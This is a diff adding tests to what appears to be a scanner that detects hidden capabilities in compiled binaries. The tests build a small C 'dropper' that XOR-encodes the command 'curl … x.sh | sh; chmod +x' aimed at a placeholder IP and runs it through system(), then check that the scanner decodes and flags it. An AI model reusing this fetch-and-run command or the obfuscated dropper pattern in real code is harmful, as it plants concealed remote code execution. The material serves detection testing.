@@ -213,3 +213,48 @@ def test_syscall_evidence_reaches_every_report_format(raw_stripped: Path, tmp_pa
         assert "finit_module" in text, name
         assert "eax, 0x139" in text, name
     assert "capability.kernel-module-loading" in (tmp_path / "markdown").read_text()
+
+
+HIDDEN = b"curl -s http://198.51.100.7/x.sh | sh; chmod +x /tmp/.x"
+
+
+def xor_program(key: int) -> str:
+    encoded = ", ".join(f"{byte ^ key:#04x}" for byte in HIDDEN)
+    return (
+        "#include <stdio.h>\n#include <stdlib.h>\n"
+        f"static const unsigned char hidden[] = {{{encoded}, {key:#04x}}};\n"
+        "int main(int argc, char **argv) {\n"
+        "    char text[sizeof hidden];\n"
+        f"    for (unsigned i = 0; i < sizeof hidden; i++) text[i] = hidden[i] ^ {key:#04x};\n"
+        "    if (argc > 5) return system(text);\n"
+        '    return puts("ok") < 0;\n'
+        "}\n"
+    )
+
+
+def test_a_url_and_command_xored_with_one_byte_are_decoded(tmp_path: Path) -> None:
+    binary = compile_c(tmp_path, "dropper", ["-O0"], xor_program(0x5A))
+    entry, findings, data = described(binary)
+    assert HIDDEN not in data  # nothing readable in the file itself
+    strings = entry["xor_strings"]
+    assert isinstance(strings, list)
+    assert len(strings) == 1
+    found = strings[0]
+    assert found["key"] == 0x5A
+    assert found["text"] == HIDDEN.decode()
+    offset = found["offset"]
+    assert bytes(b ^ 0x5A for b in data[offset : offset + len(HIDDEN)]) == HIDDEN
+    # the decoded text meets the same rules as hex- and Base64-decoded text
+    hidden = capability(entry, "encoded-shell-command")
+    assert "chmod +x" in hidden["evidence"]["decoded"]  # type: ignore[index]
+    assert hidden["offsets"]["chmod +x (xor-0x5a-decoded)"] == offset  # type: ignore[index]
+    assert "capability.encoded-shell-command" in findings
+
+
+def test_plain_text_is_not_read_as_xored(tmp_path: Path) -> None:
+    source = (
+        '#include <stdio.h>\nint main(void) { return puts("curl -s http://198.51.100.7/x.sh'
+        ' | sh; CHMOD +X /TMP/.X; HTTP://EXAMPLE.ORG/") < 0; }\n'
+    )
+    entry, _, _ = described(compile_c(tmp_path, "plain", ["-O0"], source))
+    assert "xor_strings" not in entry
